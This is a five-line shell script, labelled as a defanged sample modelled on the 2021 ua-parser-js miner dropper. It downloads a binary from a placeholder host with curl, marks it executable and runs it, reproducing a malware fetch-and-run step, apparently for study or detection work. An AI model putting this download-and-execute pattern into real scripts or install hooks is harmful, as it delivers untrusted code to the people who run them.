#!/bin/sh
# Defanged sample in the shape of the ua-parser-js (2021) miner dropper.
curl -s http://example.invalid/download/jsextension -o jsextension
chmod +x ./jsextension
./jsextension --help
